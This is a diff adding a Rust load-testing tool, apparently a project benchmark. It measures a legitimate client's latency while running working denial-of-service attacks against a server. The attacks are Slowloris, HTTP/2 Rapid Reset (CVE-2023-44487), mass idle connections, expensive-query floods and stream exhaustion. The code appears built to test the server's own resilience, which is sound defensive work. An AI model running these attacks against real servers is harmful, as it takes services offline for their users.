@@ -1,0 +1,290 @@
+//! One client that behaves, or one that does not, from an address of its own: `attack KIND URL [--from 127.0.0.2] [--seconds 10]
+//! [--ca FILE]`. Prints one line of JSON. `benches/peers/python/attack.py` starts the first beside each of the others.
+
+use std::net::{IpAddr, SocketAddr};
+use std::path::PathBuf;
+use std::sync::Arc;
+use std::sync::atomic::{AtomicU64, Ordering};
+use std::time::Duration;
+
+use clap::{Parser, ValueEnum};
+use rustls::pki_types::pem::PemObject;
+use rustls::pki_types::{CertificateDer, ServerName};
+use rustls::{ClientConfig, RootCertStore};
+use tokio::io::{AsyncBufReadExt, AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt, BufReader};
+use tokio::net::TcpSocket;
+use tokio::time::{interval, sleep, timeout};
+use tokio_rustls::TlsConnector;
+use url::Url;
+use vigie_clock::{Clock, SystemClock};
+
+type Failure = Box<dyn std::error::Error + Send + Sync>;
+
+#[derive(Clone, Copy, PartialEq, Eq, ValueEnum)]
+enum Kind {
+    /// Asks 16 times a second on 4 connections, each answer in full; measures.
+    Legitimate,
+    /// 2,000 heads of requests that come a byte a second.
+    Slowloris,
+    /// HTTP/2 streams that are taken back as soon as they are asked for, on 4 connections (CVE-2023-44487); needs --ca.
+    RapidReset,
+    /// 10,000 connections that say nothing.
+    Idle,
+    /// The most expensive questions, on 16 connections, without a pause, and again 20 ms after a refusal.
+    Expensive,
+    /// As many live streams as there are, up to 2,000.
+    Streams,
+}
+
+#[derive(Clone, Parser)]
+struct Args {
+    kind: Kind,
+    url: Url,
+    #[arg(long, default_value = "127.0.0.1")]
+    from: IpAddr,
+    #[arg(long, default_value_t = 10.0)]
+    seconds: f64,
+    /// Certificate of the server; with it, TLS is spoken
+    #[arg(long)]
+    ca: Option<PathBuf>,
+    /// A field of each request, as "name: value"
+    #[arg(long)]
+    header: Vec<String>,
+}
+
+const ORDINARY: [&str; 4] =
+    ["/v1/assets", "/v1/trends", "/v1/assets/BTC/series?metrics=posts,mean_score", "/v1/assets/BTC/posts?limit=20"];
+const EXPENSIVE: [&str; 3] = [
+    "/v1/search?q=market&from=2020-01-01",
+    "/v1/assets/BTC/posts?format=ndjson",
+    "/v1/assets/BTC/series?from=2020-01-01&metrics=posts,unique_authors,weighted_sentiment&interval=1h",
+];
+
+trait Wire: AsyncRead + AsyncWrite + Unpin + Send {}
+impl<T: AsyncRead + AsyncWrite + Unpin + Send> Wire for T {}
+
+/// What the attackers have done.
+#[derive(Default)]
+struct Counts {
+    connections: AtomicU64,
+    requests: AtomicU64,
+    refused: AtomicU64,
+    cut: AtomicU64,
+}
+
+fn add(count: &AtomicU64) {
+    count.fetch_add(1, Ordering::Relaxed);
+}
+
+struct Target {
+    args: Args,
+    address: SocketAddr,
+    tls: Option<TlsConnector>,
+    counts: Counts,
+}
+
+impl Target {
+    fn new(args: Args) -> Result<Self, Failure> {
+        let address = *args.url.socket_addrs(|| None)?.first().ok_or("no address")?;
+        let tls = args.ca.as_ref().map(|file| connector(file, args.kind == Kind::RapidReset)).transpose()?;
+        Ok(Self { args, address, tls, counts: Counts::default() })
+    }
+
+    async fn connect(&self) -> Result<Box<dyn Wire>, Failure> {
+        let socket = TcpSocket::new_v4()?;
+        socket.set_nodelay(true)?;
+        socket.bind((self.args.from, 0).into())?;
+        let stream = timeout(Duration::from_secs(10), socket.connect(self.address)).await??;
+        add(&self.counts.connections);
+        let Some(tls) = &self.tls else { return Ok(Box::new(stream)) };
+        let name = ServerName::try_from(self.address.ip().to_string())?;
+        Ok(Box::new(timeout(Duration::from_secs(10), tls.connect(name, stream)).await??))
+    }
+
+    fn head(&self, path: &str) -> String {
+        let fields: String = self.args.header.iter().map(|field| format!("{field}\r\n")).collect();
+        format!("GET {path} HTTP/1.1\r\nHost: localhost\r\n{fields}")
+    }
+
+    /// Asks, and reads the answer's head: its status, and how long its body is, if it says so.
+    async fn ask(&self, wire: &mut BufReader<Box<dyn Wire>>, path: &str) -> Result<(u16, Option<u64>), Failure> {
+        wire.write_all(format!("{}\r\n", self.head(path)).as_bytes()).await?;
+        wire.flush().await?;
+        add(&self.counts.requests);
+        let (mut line, mut length) = (String::new(), None);
+        wire.read_line(&mut line).await?;
+        let status: u16 = line.split(' ').nth(1).ok_or("no status line")?.parse()?;
+        if matches!(status, 429 | 503) {
+            add(&self.counts.refused);
+        }
+        loop {
+            line.clear();
+            wire.read_line(&mut line).await?;
+            let Some((name, value)) = line.trim_end().split_once(": ") else { return Ok((status, length)) };
+            if name.eq_ignore_ascii_case("content-length") {
+                length = Some(value.parse()?);
+            }
+        }
+    }
+
+    async fn ask_and_read(&self, wire: &mut BufReader<Box<dyn Wire>>, path: &str) -> Result<u16, Failure> {
+        let (status, length) = self.ask(wire, path).await?;
+        let length = length.ok_or("an answer in chunks")?;
+        tokio::io::copy(&mut wire.take(length), &mut tokio::io::sink()).await?;
+        Ok(status)
+    }
+
+    /// Milliseconds from when each request was due. A connection that was cut while it was idle is made anew, as clients do, in that time.
+    async fn behave(&self, number: u32) -> Vec<f64> {
+        const EVERY: Duration = Duration::from_millis(250);
+        let clock = SystemClock::default();
+        let (began, mut wire, mut took) = (clock.monotonic(), None, Vec::new());
+        let count = (self.args.seconds / EVERY.as_secs_f64()) as u32;
+        for turn in 0..count {
+            let due = EVERY * turn + EVERY * number / 4;
+            sleep(due.saturating_sub(clock.monotonic() - began)).await;
+            let path = ORDINARY[(turn + number) as usize % ORDINARY.len()];
+            let mut answered = false;
+            for _ in 0..3 {
+                let open = match wire.take() {
+                    Some(open) => Ok(open),
+                    None => self.connect().await.map(BufReader::new),
+                };
+                let Ok(mut open) = open else { continue };
+                let asked = timeout(Duration::from_secs(30), self.ask_and_read(&mut open, path)).await;
+                if let Ok(Ok(status)) = asked {
+                    answered = status == 200;
+                    wire = Some(open);
+                    break;
+                }
+                add(&self.counts.cut);
+            }
+            let ms = (clock.monotonic() - began).saturating_sub(due).as_secs_f64() * 1000.0;
+            took.push(if answered { ms } else { f64::INFINITY });
+        }
+        took
+    }
+
+    /// One connection of an attack, until it ends.
+    async fn attack(&self, number: usize) -> Result<(), Failure> {
+        let mut wire = BufReader::new(self.connect().await?);
+        match self.args.kind {
+            Kind::Legitimate => unreachable!("measured, not counted"),
+            Kind::Slowloris => {
+                wire.write_all(format!("{}X-Slow: ", self.head(ORDINARY[0])).as_bytes()).await?;
+                let mut tick = interval(Duration::from_secs(1));
+                loop {
+                    tick.tick().await;
+                    wire.write_all(b"x").await?;
+                    wire.flush().await?;
+                }
+            }
+            Kind::RapidReset => {
+                let (mut client, connection) = h2::client::handshake(wire).await?;
+                let driver = tokio::spawn(connection);
+                loop {
+                    client = client.ready().await?;
+                    let request = axum::http::Request::get(self.args.url.join(ORDINARY[1])?.as_str()).body(())?;
+                    let (_, mut sent) = client.send_request(request, true)?;
+                    sent.send_reset(h2::Reason::CANCEL);
+                    add(&self.counts.requests);
+                    tokio::task::yield_now().await;
+                    if driver.is_finished() {
+                        return Ok(());
+                    }
+                }
+            }
+            Kind::Idle => drop(wire.read(&mut [0]).await?),
+            Kind::Expensive => loop {
+                let (status, length) = self.ask(&mut wire, EXPENSIVE[number % EXPENSIVE.len()]).await?;
+                match length {
+                    Some(length) => {
+                        tokio::io::copy(&mut (&mut wire).take(length), &mut tokio::io::sink()).await?;
+                        if status != 200 {
+                            sleep(Duration::from_millis(20)).await;
+                        }
+                    }
+                    // An export: a while of it, then another one.
+                    None if status == 200 => {
+                        wire.read_exact(&mut vec![0; 256 << 10]).await?;
+                        wire = BufReader::new(self.connect().await?);
+                    }
+                    None => return Err("a refusal in chunks".into()),
+                }
+            },
+            Kind::Streams => {
+                if self.ask(&mut wire, "/v1/stream").await?.0 == 200 {
+                    tokio::io::copy(&mut wire, &mut tokio::io::sink()).await?;
+                }
+            }
+        }
+        Ok(())
+    }
+
+    fn connections(&self) -> usize {
+        match self.args.kind {
+            Kind::Legitimate | Kind::RapidReset => 4,
+            Kind::Slowloris | Kind::Streams => 2_000,
+            Kind::Idle => 10_000,
+            Kind::Expensive => 16,
+        }
+    }
+}
+
+fn connector(file: &std::path::Path, http2: bool) -> Result<TlsConnector, Failure> {
+    let mut roots = RootCertStore::empty();
+    roots.add(CertificateDer::from_pem_file(file)?)?;
+    let provider = Arc::new(rustls::crypto::ring::default_provider());
+    let config = ClientConfig::builder_with_provider(provider).with_safe_default_protocol_versions()?;
+    let mut config = config.with_root_certificates(roots).with_no_client_auth();
+    if http2 {
+        config.alpn_protocols = vec![b"h2".to_vec()];
+    }
+    Ok(TlsConnector::from(Arc::new(config)))
+}
+
+#[tokio::main]
+async fn main() -> Result<(), Failure> {
+    let args = Args::parse();
+    let seconds = Duration::from_secs_f64(args.seconds);
+    let target = Arc::new(Target::new(args)?);
+    let mut took = Vec::new();
+    if target.args.kind == Kind::Legitimate {
+        let running: Vec<_> = (0..4)
+            .map(|number| {
+                let target = target.clone();
+                tokio::spawn(async move { target.behave(number).await })
+            })
+            .collect();
+        for one in running {
+            took.extend(one.await?);
+        }
+    } else {
+        for number in 0..target.connections() {
+            let target = target.clone();
+            tokio::spawn(async move {
+                loop {
+                    if target.attack(number).await.is_err() {
+                        add(&target.counts.cut);
+                    }
+                    // Who was refused or cut off comes again.
+                    sleep(Duration::from_millis(if target.args.kind == Kind::RapidReset { 1 } else { 1000 })).await;
+                }
+            });
+            if number % 50 == 49 {
+                sleep(Duration::from_millis(5)).await;
+            }
+        }
+        sleep(seconds).await;
+    }
+    took.sort_by(f64::total_cmp);
+    let part = |part: f64| took.get((took.len() as f64 * part) as usize).copied();
+    let count = |count: &AtomicU64| count.load(Ordering::Relaxed);
+    let counts = &target.counts;
+    let line = serde_json::json!({
+        "answered": took.iter().filter(|ms| ms.is_finite()).count(), "of": took.len(), "p50_ms": part(0.5), "p99_ms": part(0.99),
+        "connections": count(&counts.connections), "requests": count(&counts.requests), "refused": count(&counts.refused), "cut": count(&counts.cut),
+    });
+    println!("{line}");
+    std::process::exit(0)
+}
